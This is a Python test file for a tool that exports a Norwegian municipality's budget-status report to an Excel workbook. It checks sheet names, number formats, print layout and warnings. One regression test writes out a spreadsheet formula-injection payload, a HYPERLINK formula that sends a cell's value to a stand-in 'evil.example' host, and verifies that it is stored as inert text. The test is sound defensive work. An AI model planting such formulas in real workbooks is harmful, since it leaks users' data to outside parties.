"""The workbook, read back with openpyxl: a sheet per table, numbers as numbers."""

import io
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tertial.core.document import StatusTableBlock
from tertial.renderers.xlsx import AMOUNT, PERCENT, THOUSANDS, render_xlsx, sheet_name


def book(doc):
    return load_workbook(io.BytesIO(render_xlsx(doc)))


def header_row(ws) -> int:
    return next(r for r in range(1, 6) if ws.cell(row=r, column=1).value in ("Ansvar", "Post", "Enhet", "Måned"))


def test_one_sheet_per_table_after_the_text(report):
    assert book(report).sheetnames == [
        "Rapport",
        "Status",
        "Avvik per enhet",
        "Regnskap per måned",
        "Sentrale poster",
        "Kommentarer",
    ]


def test_status_figures_are_exact_kroner_shown_in_thousands_as_the_report_prints_them(report):
    table = next(b for b in report.blocks if isinstance(b, StatusTableBlock)).table
    ws = book(report)["Status"]
    last = ws[ws.max_row]
    assert last[0].value == "Totalt Testvik kommune"
    assert all(isinstance(c.value, int | float) for c in (last[1], last[2], last[3], last[4], last[5]))
    assert Decimal(str(last[2].value)) == Decimal(table.total.budget) / 100
    assert round(last[3].value, 6) == round(float(table.total.usage_percent) / 100, 6)
    assert [last[i].number_format for i in range(1, 6)] == [THOUSANDS, THOUSANDS, PERCENT, THOUSANDS, THOUSANDS]
    assert THOUSANDS == "#,##0,;[Red]-#,##0," and AMOUNT == "#,##0;[Red]-#,##0" and PERCENT == "0.0 %"
    assert ws["A2"].value == "Beløp i 1000 kr; forbruk i prosent; cellene har eksakte kroner"
    assert ws.max_row - header_row(ws) == len(table.rows)


def test_subtotal_and_total_rows_are_bold_unit_rows_are_not(report):
    ws = book(report)["Status"]
    for row in ws.iter_rows(min_row=header_row(ws) + 1):
        assert row[0].font.b == (not row[0].value[0].isdigit()), row[0].value


def test_central_items_end_with_the_net_prognosis(report):
    ws = book(report)["Sentrale poster"]
    assert ws.cell(row=ws.max_row, column=1).value == "Netto prognose (avvik)"
    assert ws.cell(row=ws.max_row, column=3).value == 3_000_000


def test_chart_values_are_tables_too(report):
    ws = book(report)["Regnskap per måned"]
    first = header_row(ws) + 1
    assert [ws.cell(row=r, column=1).value for r in range(first, first + 12)][:3] == ["jan", "feb", "mar"]
    assert ws.cell(row=first + 3, column=2).value is None  # no actuals after the period
    assert isinstance(ws.cell(row=first + 11, column=3).value, int | float)


def test_a_forced_report_warns_on_every_sheet(forced_report):
    wb = book(forced_report)
    assert wb["Rapport"]["A5"].value.startswith("Advarsel: rapporten er laget selv om kontrollen fant 1 avvik")
    for ws in wb.worksheets[1:]:
        assert ws["A2"].value.startswith("Advarsel:"), ws.title


def test_an_unknown_block_is_refused(report):
    from dataclasses import replace

    with pytest.raises(TypeError, match="Ukjent blokk i rapporten: object"):
        render_xlsx(replace(report, blocks=(*report.blocks, object())))


def test_sheet_names_follow_excels_rules_when_captions_repeat_or_hold_forbidden_characters(report):
    from dataclasses import replace

    from tertial.core.document import Figure, FigureTable, FigureTableRow

    def table(caption: str) -> FigureTable:
        return FigureTable(caption, "Linje", ("Beløp",), (FigureTableRow("Sum", (Figure.thousands(100_000),)),))

    long = "Netto driftsramme per rammeområde pr. 30.04.2024"
    doc = replace(report, blocks=(table(long), table(long), table("Lån: fast/flytende [andel]?")))
    names = book(doc).sheetnames[1:]
    assert names == ["Netto driftsramme", "Netto driftsramme (2)", "Lån fast flytende andel"]
    assert all(len(n) <= 31 for n in names)


def test_a_comment_holding_a_formula_is_text_not_a_live_formula(report):
    """Issue 22: a unit leader's comment became a live HYPERLINK formula in the workbook."""
    from dataclasses import replace

    from tertial.core.comments import UnitComment
    from tertial.core.document import CommentsBlock

    evil = '=HYPERLINK("http://evil.example/x?d="&D5,"Klikk")'
    block = next(b for b in report.blocks if isinstance(b, CommentsBlock))
    sector = block.sectors[0]
    unit = replace(sector.units[0], comment=UnitComment(ansvar=sector.units[0].code, cause=evil, consequence="@SUM(1)"))
    doc = replace(
        report,
        blocks=tuple(
            replace(b, sectors=(replace(sector, units=(unit, *sector.units[1:])), *b.sectors[1:])) if b is block else b
            for b in report.blocks
        ),
    )
    wb = book(doc)
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + evil in texts and "'@SUM(1)" in texts
    status = wb["Status"]
    negative = [c.value for row in status.iter_rows() for c in row if isinstance(c.value, int | float) and c.value < 0]
    assert negative  # an overspending unit's deviation stays a (negative) number


# --- Council-grade workbook (issue 18) ----------------------------------------------------------


def whole_words_of(name: str, title: str) -> bool:
    """Every word of the sheet name (less a collision suffix) is a whole word of the title."""
    name = re.sub(r" \(\d+\)$", "", name)
    words = [w.strip(",;:–") for w in name.split()]
    return all(re.search(rf"(?<![\w-]){re.escape(w)}(?![\w-])", title) for w in words)


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Helse og velferd", "Helse og velferd"),
        ("Status sykefravær pr. mars 2024", "Status sykefravær pr. mars 2024"),  # 31: kept whole
        ("Status sykefravær pr. april 2024", "Status sykefravær"),
        ("Forslag til budsjettendringer (tall i 1000 kr)", "Forslag til budsjettendringer"),
        ("Låneportefølje pr. 30.04.2024, ordinær gjeld", "Låneportefølje, ordinær gjeld"),
        ("Nøkkeltall og grenser i finansreglementet pr. 30.04.2024", "Nøkkeltall og grenser"),
        (
            "Bevilgningsoversikt drift (budsjett- og regnskapsforskriften § 5-4) pr. 30.04.2024 (tall i 1000 kr)",
            "Bevilgningsoversikt drift",
        ),
        ("Enheter med prognose utenfor det statistiske intervallet", "Enheter med prognose"),
        ("Utvikling i økonomisk sosialhjelp og KVP", "Utvikling i økonomisk"),
        ("Kommunedirektørensledergruppesmøtereferater", "Kommunedirektørensledergruppes…"),  # one word: marked
    ],
)
def test_sheet_names_are_shortened_at_a_word_boundary(title, expected):
    name = sheet_name(title, ["Rapport", "Status"])
    assert name == expected and len(name) <= 31
    if " " in title:
        assert whole_words_of(name, title)


def test_a_colliding_sheet_name_gets_a_suffix_within_31_characters():
    taken = ["Rapport"]
    for _ in range(3):
        taken.append(sheet_name("Bevilgningsoversikt investering (§ 5-5) pr. 30.04.2024", taken))
    assert taken[1:] == ["Bevilgningsoversikt investering", "Bevilgningsoversikt (2)", "Bevilgningsoversikt (3)"]
    assert sheet_name("STATUS", ["Rapport", "Status"]) == "STATUS (2)"  # Excel compares case-insensitively


def _long_tables_report(report):
    from dataclasses import replace

    from tertial.core.document import Figure, FigureKind, FigureTable, FigureTableRow

    rows = (
        FigureTableRow("Lån 1", (Figure.thousands(123_456_789_01), Figure(Decimal("4.25"), FigureKind.PERCENT2))),
        FigureTableRow("Sum", (Figure.thousands(987_654_321_00), Figure(None, FigureKind.PERCENT2)), kind="total"),
    )
    captions = (
        "Låneportefølje pr. 30.04.2024, ordinær gjeld",
        "Låneportefølje pr. 30.04.2024, ordinær gjeld",
        "Rammeområdenes netto driftsramme pr. 30.04.2024, regnskap og prognose (tall i 1000 kr)",
        "Investeringer i varige driftsmidler per område pr. 30.04.2024 (tall i 1000 kr)",
    )
    tables = tuple(FigureTable(c, "Långiver og lån", ("Saldo (1000 kr)", "Rente"), rows) for c in captions)
    return replace(report, blocks=(*report.blocks, *tables)), captions


def test_every_sheet_name_is_unique_short_and_free_of_cut_words(report):
    doc, _ = _long_tables_report(report)
    wb = book(doc)
    names = wb.sheetnames
    assert len({n.lower() for n in names}) == len(names)
    assert all(len(n) <= 31 for n in names)
    chosen = {"Status", "Avvik per enhet", "Regnskap per måned", "Sentrale poster", "Kommentarer"}
    for ws in wb.worksheets[1:]:
        if ws.title in chosen:
            continue
        source = ws["A1"].value  # the full caption, then " – municipality"
        assert whole_words_of(ws.title, source), (ws.title, source)
    assert names[-4:] == [
        "Låneportefølje, ordinær gjeld",
        "Låneportefølje, ordinær (2)",
        "Rammeområdenes netto",
        "Investeringer i varige",
    ]


def test_every_table_sheet_states_its_unit_and_thousands_are_exact_kroner_by_format(report):
    doc, _ = _long_tables_report(report)
    wb = book(doc)
    units = {
        ws.title: ws.cell(row=header_row_any(ws) - 1, column=1).value
        for ws in wb.worksheets[1:]
        if ws.title != "Kommentarer"
    }
    assert units == {
        "Status": "Beløp i 1000 kr; forbruk i prosent; cellene har eksakte kroner",
        "Avvik per enhet": "Beløp i 1000 kr; cellene har eksakte kroner",
        "Regnskap per måned": "Beløp i mill. kr; cellene har eksakte kroner",
        "Sentrale poster": "Beløp i 1000 kr; cellene har eksakte kroner",
        "Låneportefølje, ordinær gjeld": "Beløp i 1000 kr; prosent; cellene har eksakte kroner",
        "Låneportefølje, ordinær (2)": "Beløp i 1000 kr; prosent; cellene har eksakte kroner",
        "Rammeområdenes netto": "Beløp i 1000 kr; prosent; cellene har eksakte kroner",
        "Investeringer i varige": "Beløp i 1000 kr; prosent; cellene har eksakte kroner",
    }
    ws = wb["Låneportefølje, ordinær gjeld"]
    first = header_row_any(ws) + 1
    saldo, rente = ws.cell(row=first, column=2), ws.cell(row=first, column=3)
    assert Decimal(str(saldo.value)) == Decimal("123456789.01")  # exact kroner, to the øre
    assert saldo.number_format == THOUSANDS and rente.number_format == "0.00 %"
    assert round(rente.value, 6) == 0.0425
    month = wb["Regnskap per måned"]
    assert month.cell(row=header_row_any(month) + 1, column=3).number_format == "#,##0.0,,;[Red]-#,##0.0,,"
    central = wb["Sentrale poster"]
    assert central.cell(row=central.max_row, column=3).number_format == THOUSANDS


def header_row_any(ws) -> int:
    return ws.freeze_panes and int(ws.freeze_panes[1:]) - 1


def test_header_rows_are_frozen_and_printed_on_every_page_fitted_to_the_width(report):
    wb = book(report)
    for ws in wb.worksheets[1:]:
        header = header_row_any(ws)
        assert ws.cell(row=header, column=1).font.b, ws.title
        assert ws.freeze_panes == f"B{header + 1}"
        assert ws.print_title_rows == f"$1:${header}"
        assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
        assert ws.oddFooter.right.text == "Side &P av &N" and ws.oddHeader.left.text == "Testvik kommune"
    assert wb["Status"].page_setup.orientation == "landscape"  # seven columns
    assert wb["Kommentarer"].page_setup.orientation == "landscape"
    assert wb["Sentrale poster"].page_setup.orientation == "portrait"


def test_a_forced_report_keeps_the_warning_above_the_unit(forced_report):
    ws = book(forced_report)["Status"]
    assert ws["A2"].value.startswith("Advarsel:") and ws["A3"].value.startswith("Beløp i 1000 kr")
    assert ws["A4"].value == "Ansvar" and ws.freeze_panes == "B5"


def test_a_table_with_a_chosen_short_title_gets_that_sheet_name(report):
    from dataclasses import replace

    from tertial.core.document import Figure, FigureTable, FigureTableRow

    table = FigureTable(
        "Utvikling i økonomisk sosialhjelp og KVP",
        "Ytelse",
        ("2023",),
        (FigureTableRow("Sosialhjelp", (Figure.thousands(100_000),)),),
        short_title="Økonomisk sosialhjelp og KVP",
    )
    wb = book(replace(report, blocks=(*report.blocks, table)))
    ws = wb["Økonomisk sosialhjelp og KVP"]
    assert ws["A1"].value == "Utvikling i økonomisk sosialhjelp og KVP – Testvik kommune"


def test_file_properties_come_from_the_document_and_the_same_report_gives_the_same_bytes(report):
    props = book(report).properties
    assert props.creator == props.lastModifiedBy == "Testvik kommune"
    assert props.title == "Status regnskap pr. 31.03.24" and props.language == "nb-NO"
    assert props.created.isoformat() == props.modified.isoformat() == "2024-03-31T12:00:00"
    assert render_xlsx(report) == render_xlsx(report)
